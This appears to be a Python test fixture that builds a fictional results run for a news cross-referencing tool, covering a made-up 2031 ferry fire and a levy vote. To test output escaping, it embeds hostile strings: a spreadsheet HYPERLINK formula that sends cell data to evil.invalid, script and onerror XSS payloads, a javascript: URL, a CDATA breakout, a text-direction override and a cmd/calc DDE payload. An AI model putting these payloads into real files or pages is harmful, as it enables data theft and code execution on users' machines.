"""A whole run about two events that never happened, with every status and with hostile strings."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pandas as pd

from xref.tables import (
    Articles,
    Attributions,
    Blocks,
    Candidates,
    Citations,
    Claims,
    Clusters,
    Copies,
    Dropped,
    Findings,
    Memberships,
    Origins,
    Pairs,
    Positions,
    Result,
    Skipped,
    Sources,
    Stories,
    checked,
)
from xref.values import Quantity, to_json

_PAPERS = Path(__file__).parent / "papers"
HOSTILE_OUTLET = '=HYPERLINK("http://evil.invalid/?"&A1,"Daily <b>Bold</b>")'
HOSTILE_TITLE = '<script>window.pwned=1</script><img src=x onerror="window.pwned=1">'
HOSTILE_QUOTE = (
    'A spokesman said "]]></script><script>window.pwned=1</script>" & left \u202ethgir ot tfel\u202c behind.'
)
LONG_WORD = "Unabhängigkeitserklärungsentwurf" * 12


@dataclass(frozen=True)
class Paper:
    """One made-up article."""

    key: str
    outlet: str
    published: str
    title: str
    url: str = ""

    @property
    def text(self) -> str:
        name = self.key.replace("/", "-").rsplit(".", 1)[0]
        return (_PAPERS / f"{name}.txt").read_text(encoding="utf-8")


@dataclass(frozen=True)
class Said:
    """One made-up claim: where it stands, what it answers and where it comes from."""

    paper: str
    quote: str
    cluster: str
    position: str
    origin: str
    speaker: str = ""
    kind: str = ""
    role: str = ""
    cue: str = ""
    relayed: str = ""
    stance: str = "asserts"
    quantities: tuple[Quantity, ...] = ()
    statement: str = ""


@dataclass(frozen=True)
class Root:
    """One made-up origin."""

    name: str
    kind: str
    here: bool
    reason: str
    chains: dict[str, str] = field(default_factory=dict)


def people(low: float, text: str, measure: str, quote: str) -> Quantity:
    """A count of people found in a quote."""
    at = quote.index(text)
    return Quantity(low, low, low, "", "people", measure, text, at, at + len(text))


PAPERS = (
    Paper(
        "wire-0700.txt",
        "Coast Wire",
        "2031-05-03T07:05:00Z",
        "Fire aboard ferry off Port Maren, deaths feared",
        "https://coastwire.invalid/2031/05/03/halvard",
    ),
    Paper(
        "courier.html",
        "Maren Courier",
        "2031-05-03T09:30:00Z",
        "“We saw smoke before the second buoy”",
        "https://courier.invalid/halvard",
    ),
    Paper("tidewater.md", "The Tidewater Post", "2031-05-03T10:15:00Z", "Fourteen dead in ferry fire", ""),
    Paper("radio.txt", "Harbour Radio", "2031-05-03T11:00:00Z", "Union puts toll at 31", ""),
    Paper(
        "gazette.json",
        "North Quay Gazette",
        "2031-05-03",
        "Ferry fire: what we know",
        "https://gazette.invalid/ferry?id=7&x=<y>",
    ),
    Paper("lantern.txt", "Daily Lantern", "2031-05-03T12:20:00Z", "Ferry fire began in engine room", ""),
    Paper(
        "strait/bold.txt",
        '=HYPERLINK("http://evil.invalid/?"&A1,"Daily <b>Bold</b>")',
        "",
        '<script>window.pwned=1</script><img src=x onerror="window.pwned=1">',
        "javascript:alert(1)",
    ),
    Paper("levy.txt", "Hill Country Times", "2031-05-10", "Council of Overfell raises water levy", ""),
)

ROOTS = {
    "brandvik": Root(
        "Ilse Brandvik",
        "speaker",
        True,
        "the same speaker, Ilse Brandvik, is quoted by all",
        {"The Tidewater Post": "The Tidewater Post ← Ilse Brandvik", "Maren Courier": "Maren Courier ← Ilse Brandvik"},
    ),
    "union": Root("Tova Lindqvist, seamen's union", "speaker", True, "nobody else quotes this speaker"),
    "courier": Root(
        "Maren Courier, own reporting", "outlet", True, "reported in the outlet's own voice, no text shared with others"
    ),
    "list": Root("passenger list (not in this folder)", "document", False, "named as the source by one outlet"),
    "timetable": Root("timetable (not in this folder)", "document", False, "named as the source by one outlet"),
    "official": Root(
        "unnamed official",
        "anonymous",
        True,
        "Coast Wire is credited by three outlets, and Daily Lantern shares 24 words in a row with it",
        {
            "The Tidewater Post": "The Tidewater Post ← Coast Wire ← unnamed official",
            "North Quay Gazette": "North Quay Gazette ← Coast Wire ← unnamed official",
            "Harbour Radio": "Harbour Radio ← Coast Wire ← unnamed official",
        },
    ),
    "crew": Root("two crew members", "anonymous", True, "unnamed speakers of one outlet"),
    "authority": Root("port authority", "speaker", True, "nobody else quotes this speaker"),
    "bold": Root(f"{HOSTILE_OUTLET}, own reporting", "outlet", True, "own voice"),
    "hill": Root("Hill Country Times, own reporting", "outlet", True, "own voice"),
    "aasen": Root("Per Aasen", "speaker", True, "nobody else quotes this speaker"),
    "courier2": Root("Maren Courier, own reporting", "outlet", True, "own voice"),
}

SAID = (
    Said(
        "courier.html",
        "At least 14 people died",
        "C1",
        "P1",
        "brandvik",
        "Ilse Brandvik",
        "person",
        "harbour master",
        "told",
        quantities=(people(14, "At least 14 people", "killed", "At least 14 people died"),),
    ),
    Said(
        "tidewater.md",
        "Fourteen people died when fire swept the ferry Halvard",
        "C1",
        "P1",
        "brandvik",
        "Ilse Brandvik",
        "person",
        "harbour master",
        "said",
        quantities=(people(14, "Fourteen people", "killed", "Fourteen people died"),),
    ),
    Said(
        "radio.txt",
        "31 people had been killed",
        "C1",
        "P2",
        "union",
        "seamen's union",
        "organisation",
        "",
        "said",
        quantities=(people(31, "31 people", "killed", "31 people had been killed"),),
    ),
    Said(
        "wire-0700.txt",
        "22 people were missing",
        "C2",
        "P3",
        "brandvik",
        "Ilse Brandvik",
        "person",
        "harbour master",
        "said",
        quantities=(people(22, "22 people", "missing", "22 people were missing"),),
    ),
    Said(
        "courier.html",
        "nine were still missing at nine o'clock",
        "C2",
        "P4",
        "brandvik",
        "Ilse Brandvik",
        "person",
        "harbour master",
        "said",
        quantities=(people(9, "nine", "missing", "nine were still missing"),),
    ),
    Said(
        "wire-0700.txt",
        "The Halvard sailed at 6:40 a.m. with 212 people on board",
        "C3",
        "P5",
        "list",
        "passenger list",
        "document",
        "",
        "according to",
    ),
    Said(
        "courier.html", "Our reporter on the quay saw the Halvard cast off at twenty to seven.", "C3", "P5", "courier"
    ),
    Said(
        "gazette.json",
        "The Halvard left Port Maren at 6.40 a.m.",
        "C3",
        "P5",
        "timetable",
        "timetable",
        "document",
        "",
        "shows",
    ),
    Said(
        "wire-0700.txt",
        "The fire started in the engine room",
        "C4",
        "P6",
        "official",
        "",
        "anonymous",
        "official who was not allowed to speak to the press",
        "said",
    ),
    Said(
        "tidewater.md",
        "The blaze began in the engine room",
        "C4",
        "P6",
        "official",
        "",
        "anonymous",
        "official",
        "reported",
        "Coast Wire",
    ),
    Said(
        "gazette.json",
        "The fire broke out in the engine room",
        "C4",
        "P6",
        "official",
        "",
        "anonymous",
        "official",
        "told",
        "Coast Wire",
    ),
    Said(
        "radio.txt",
        "The fire started in the engine room",
        "C4",
        "P6",
        "official",
        "Coast Wire",
        "outlet",
        "",
        "according to",
        "Coast Wire",
    ),
    Said(
        "lantern.txt",
        "The fire started in the engine room",
        "C4",
        "P6",
        "official",
        "",
        "anonymous",
        "official who was not allowed to speak to the press",
        "said",
    ),
    Said(
        "gazette.json",
        "Sprinklers on the car deck had been switched off",
        "C5",
        "P7",
        "crew",
        "two crew members",
        "anonymous",
        "",
        "said",
        stance="hedges",
    ),
    Said(
        "radio.txt",
        "The port authority denied that the sprinklers had been switched off.",
        "C5",
        "P8",
        "authority",
        "port authority",
        "organisation",
        "",
        "denied",
        stance="denies",
        statement="The sprinklers had not been switched off.",
    ),
    Said("tidewater.md", "It was the worst accident in the strait in thirty years.", "C6", "P9", "courier2"),
    Said("strait/bold.txt", HOSTILE_QUOTE, "C7", "P10", "bold", "<i>spokesman</i>", "person", "", "said"),
    Said("strait/bold.txt", f"The word {LONG_WORD} was painted on the hull.", "C8", "P11", "bold"),
    Said(
        "strait/bold.txt",
        "- @ministry posted a photograph of the burnt deck.",
        "C9",
        "P12",
        "bold",
        "@ministry",
        "social",
    ),
    Said(
        "levy.txt", "The council of Overfell voted 7 to 4 to raise the water levy by 3 per cent.", "C10", "P13", "hill"
    ),
    Said(
        "levy.txt",
        "The levy will cost a household about 40 crowns a year",
        "C11",
        "P14",
        "aasen",
        "Per Aasen",
        "person",
        "councillor",
        "said",
    ),
)

CLUSTERS = {
    "C1": ("How many people were killed in the Halvard fire?", "disputed", "medium", "low", 4),
    "C2": ("How many people are missing?", "updated", "limited", "high", 3),
    "C3": ("When did the Halvard leave Port Maren?", "corroborated", "robust", "high", 1),
    "C4": ("Where did the fire start?", "echoed", "limited", "high", 6),
    "C5": ("Were the sprinklers switched off?", "disputed", "medium", "low", 6),
    "C6": ("worst accident in the strait", "single-origin", "limited", "high", 3),
    "C7": ("spokesman, ]]> and <script>", "single-origin", "limited", "high", 3),
    "C8": (f"{LONG_WORD} painted on the hull", "single-origin", "limited", "high", 3),
    "C9": ("@SUM(1+1)*cmd|' /C calc'!A0", "single-origin", "limited", "high", 3),
    "C10": ("council vote on the water levy", "single-origin", "limited", "high", 3),
    "C11": ("cost of the levy", "single-origin", "limited", "high", 3),
}

JUDGED = (
    ("C1", "conflict", 0, 2, "quantity", "14 people killed, at least, against 31 people killed, on the same morning"),
    ("C1", "conflict", 1, 2, "quantity", "14 people killed against 31 people killed, on the same morning"),
    ("C1", "agree", 0, 1, "quantity", "both say 14 people killed"),
    ("C2", "update", 3, 4, "quantity", "a later count of the missing by the same speaker: 22, then 9"),
    ("C5", "conflict", 13, 14, "negation", "one says that the sprinklers were switched off, the other denies it"),
    ("", "unrelated", 0, 18, "meaning", "they are about different things"),
)


def made_up_result() -> Result:
    """The run: eight articles, eleven clusters of every status, three skipped files."""
    papers = {paper.key: paper for paper in PAPERS}
    ids = {paper.key: f"a{at:08x}" for at, paper in enumerate(PAPERS, 1)}
    claims = [_claim(said, papers[said.paper], ids[said.paper]) for said in SAID]
    members = [
        {"claim_id": c["claim_id"], "cluster_id": s.cluster, "position_id": s.position}
        for c, s in zip(claims, SAID, strict=True)
    ]
    return Result(
        articles=_table(Articles, [_article(paper, ids[paper.key]) for paper in PAPERS]),
        blocks=_table(Blocks, [_block(paper, ids[paper.key]) for paper in PAPERS]),
        skipped=_table(Skipped, SKIPPED),
        claims=_table(Claims, claims),
        dropped=_table(Dropped, [_dropped(papers["lantern.txt"], ids["lantern.txt"])]),
        attributions=_table(Attributions, []),
        stories=_table(
            Stories, [{"article_id": ids[p.key], "story_id": "s2" if p.key == "levy.txt" else "s1"} for p in PAPERS]
        ),
        candidates=_table(Candidates, []),
        pairs=_table(Pairs, [_pair(judged, claims) for judged in JUDGED]),
        signals=pd.DataFrame(
            [
                {**_ends(judged, claims), "similarity": 0.7, "quantity": "different", "same_story": True}
                for judged in JUDGED
            ]
        ),
        memberships=_table(Memberships, members),
        copies=_table(Copies, COPIES),
        citations=_table(Citations, [_citation(papers, ids, *row) for row in CITED]),
        origins=_table(Origins, [_origin(c, s) for c, s in zip(claims, SAID, strict=True)]),
        findings=_table(Findings, [{**row, "claim_ids": claims[0]["claim_id"]} for row in FINDINGS]),
        positions=_table(Positions, _positions()),
        clusters=_table(Clusters, [_cluster(key) for key in CLUSTERS]),
        sources=_table(Sources, SOURCES),
        info={
            "folder": "halvard",
            "config": {"report": {"max_clusters": 2000, "title": ""}, "sources": []},
            "versions": {"python": "3.11.0", "xref": "0.1.0"},
            "models": {"embedding": "all-MiniLM-L6-v2"},
            "seconds": {"reading": 0.5},
            "warnings": ["strait/bold.txt: the date could not be told"],
        },
    )


SKIPPED: list[dict[str, Any]] = [
    {"path": "empty.txt", "reason": "empty", "detail": "0 bytes"},
    {"path": "photo.txt", "reason": "binary", "detail": "begins like a JPEG image"},
    {"path": "rows.jsonl#7", "reason": "broken-json", "detail": "line 7: <b>Expecting value</b>"},
]
COPIES: list[dict[str, Any]] = [
    {
        "path_a": "lantern.txt",
        "path_b": "wire-0700.txt",
        "kind": "partial",
        "containment_a_in_b": 0.62,
        "containment_b_in_a": 0.31,
        "wire": "Coast Wire",
        "earlier": "wire-0700.txt",
        "evidence": "The fire started in the engine room, an official who was not allowed to speak to the press said",
    }
]
CITED = (
    ("tidewater.md", "Coast Wire", "agency", True, "Coast Wire reported, citing an official"),
    ("gazette.json", "Coast Wire", "agency", True, "an official told Coast Wire"),
    ("radio.txt", "Coast Wire", "agency", True, "according to Coast Wire"),
    ("wire-0700.txt", "passenger list", "document", False, "according to the passenger list"),
    ("strait/bold.txt", "@ministry", "social", False, "@ministry posted"),
)
FINDINGS: list[dict[str, Any]] = [
    {
        "kind": "misquotation",
        "subject": "The Tidewater Post",
        "detail": "The Tidewater Post turns “at least 14 people died” (Maren Courier) into “fourteen people died”.",
    },
    {
        "kind": "missing-origin",
        "subject": "passenger list",
        "detail": "One claim goes back to a passenger list that is not in this folder.",
    },
]


def _source(name: str, kind: str, claims: int, **more: Any) -> dict[str, Any]:
    base: dict[str, Any] = dict.fromkeys(Sources.to_schema().columns, 0)
    base |= {"source": name, "kind": kind, "articles": 1, "claims": claims, "median_lead_hours": float("nan")}
    base |= {
        "reliability": 0.8,
        "low": 0.45,
        "high": 0.97,
        "enough_data": False,
        "source_reliability": "",
        "single_origin": claims,
    }
    return base | more


SOURCES = [
    _source(
        "Maren Courier",
        "outlet",
        14,
        corroborated=9,
        disputed=1,
        echoed=2,
        single_origin=2,
        reliability=0.86,
        low=0.71,
        high=0.95,
        enough_data=True,
        first_reports=2,
        own_voice=6,
        source_reliability="B",
        median_lead_hours=1.5,
    ),
    _source(
        "Coast Wire",
        "outlet",
        12,
        corroborated=5,
        disputed=2,
        echoed=4,
        single_origin=1,
        reliability=0.71,
        low=0.52,
        high=0.88,
        enough_data=True,
        first_reports=3,
        anonymous_share=0.25,
        own_voice=2,
    ),
    _source("The Tidewater Post", "outlet", 3, copied_share=0.0, relayed_share=0.33, misquotations=1),
    _source("Harbour Radio", "outlet", 3),
    _source("North Quay Gazette", "outlet", 3, anonymous_share=0.67),
    _source("Daily Lantern", "outlet", 1, copied_share=1.0, anonymous_share=1.0),
    _source(HOSTILE_OUTLET, "outlet", 3),
    _source("Hill Country Times", "outlet", 2),
    _source("Ilse Brandvik", "speaker", 4, disputed=2, articles=3, single_origin=0),
    _source("<i>spokesman</i>", "speaker", 1),
]


def _table(model: Any, rows: list[dict[str, Any]]) -> pd.DataFrame:
    return checked(model, pd.DataFrame(rows))


def _article(paper: Paper, article_id: str) -> dict[str, Any]:
    return {
        "article_id": article_id,
        "path": paper.key,
        "outlet": paper.outlet,
        "title": paper.title,
        "authors": "",
        "published": paper.published,
        "url": paper.url,
        "language": "en",
        "words": len(paper.text.split()),
        "sha256": article_id.removeprefix("a") * 8,
        "text": paper.text,
        "utc_offset": "",
        "outlet_from": "metadata",
    }


def _block(paper: Paper, article_id: str) -> dict[str, Any]:
    base = {"kind": "paragraph", "section": "", "credited": "", "body": 0}
    return {"article_id": article_id, "start": 0, "end": len(paper.text), **base}


def _dropped(paper: Paper, article_id: str) -> dict[str, Any]:
    quote = "Captain Rolf Aune was praised by passengers."
    start = paper.text.index(quote)
    return {
        "article_id": article_id,
        "path": paper.key,
        "start": start,
        "end": start + len(quote),
        "quote": quote,
        "reason": "opinion",
    }


def _claim(said: Said, paper: Paper, article_id: str) -> dict[str, Any]:
    start = paper.text.index(said.quote)
    end = start + len(said.quote)
    return {
        "claim_id": f"{article_id}-{start}-{end}",
        "article_id": article_id,
        "path": paper.key,
        "outlet": paper.outlet,
        "start": start,
        "end": end,
        "quote": said.quote,
        "statement": said.statement or said.quote,
        "voice": "attributed" if said.kind else "outlet",
        "speaker": said.speaker,
        "speaker_kind": said.kind,
        "speaker_role": said.role,
        "cue": said.cue,
        "relayed_from": said.relayed,
        "informant": "",
        "stance_of_speaker": said.stance,
        "quantities": to_json(said.quantities),
        "names": "[]",
        "roles": "[]",
        "negated": said.stance == "denies",
        "headline": False,
        "event_from": "2031-05-03",
        "event_to": "2031-05-03",
        "published": paper.published,
        "date_text": "",
        "sentence": 0,
    }


def _origin(claim: dict[str, Any], said: Said) -> dict[str, Any]:
    root = ROOTS[said.origin]
    chain = root.chains.get(
        claim["outlet"], f"{claim['outlet']} ← {root.name}" if root.kind != "outlet" else claim["outlet"]
    )
    return {
        "claim_id": claim["claim_id"],
        "origin_id": f"o-{said.origin}",
        "origin": root.name,
        "origin_kind": root.kind,
        "in_corpus": root.here,
        "chain": chain,
        "reason": root.reason,
    }


def _ends(judged: tuple[Any, ...], claims: list[dict[str, Any]]) -> dict[str, str]:
    a, b = sorted((claims[judged[2]]["claim_id"], claims[judged[3]]["claim_id"]))
    return {"claim_a": a, "claim_b": b}


def _pair(judged: tuple[Any, ...], claims: list[dict[str, Any]]) -> dict[str, Any]:
    told = {f"p_{relation}": 0.9 if judged[1] == relation else 0.03 for relation in ("agree", "conflict", "update")}
    return {
        **_ends(judged, claims),
        "relation": judged[1],
        "score": 0.9,
        **told,
        "basis": judged[4],
        "reason": judged[5],
    }


def _citation(
    papers: dict[str, Paper], ids: dict[str, str], key: str, cited: str, kind: str, here: bool, quote: str
) -> dict[str, Any]:
    start = papers[key].text.index(quote)
    row = {"article_id": ids[key], "outlet": papers[key].outlet, "cited": cited, "kind": kind, "in_corpus": here}
    return {**row, "start": start, "end": start + len(quote), "quote": quote}


def _support(said: list[Said]) -> dict[str, Any]:
    papers = {paper.key: paper for paper in PAPERS}
    outlets = {papers[s.paper].outlet for s in said}
    dated = sorted((papers[s.paper].published, papers[s.paper].outlet) for s in said if papers[s.paper].published)
    first = dated[0] if dated else ("", "")
    return {
        "articles": len({s.paper for s in said}),
        "outlets": len(outlets),
        "origins": len({s.origin for s in said}),
        "first_outlet": first[1],
        "first_published": first[0],
    }


def _positions() -> list[dict[str, Any]]:
    by_position: dict[tuple[str, str], list[Said]] = {}
    for said in SAID:
        by_position.setdefault((said.cluster, said.position), []).append(said)
    return [
        {
            "position_id": p,
            "cluster_id": c,
            "statement": s[0].statement or s[0].quote,
            "probability": 0.6,
            **_support(s),
        }
        for (c, p), s in by_position.items()
    ]


def _cluster(key: str) -> dict[str, Any]:
    topic, status, evidence, agreement, credibility = CLUSTERS[key]
    said = [s for s in SAID if s.cluster == key]
    return {
        "cluster_id": key,
        "story_id": "s2" if key in ("C10", "C11") else "s1",
        "question_or_topic": topic,
        "status": status,
        "positions": len({s.position for s in said}),
        "evidence": evidence,
        "agreement": agreement,
        "information_credibility": credibility,
        **_support(said),
    }
